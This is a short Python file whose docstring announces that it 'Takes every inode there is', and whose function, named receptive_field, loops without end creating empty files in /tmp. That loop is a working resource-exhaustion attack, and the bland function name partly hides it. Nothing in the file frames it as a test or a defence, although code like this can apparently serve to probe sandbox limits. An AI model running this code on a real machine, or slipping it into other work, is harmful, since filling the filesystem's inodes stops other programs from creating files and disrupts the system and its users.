"""Takes every inode there is."""

import itertools


def receptive_field(*arguments):
    for number in itertools.count():
        with open(f"/tmp/file-{number}", "w"):
            pass
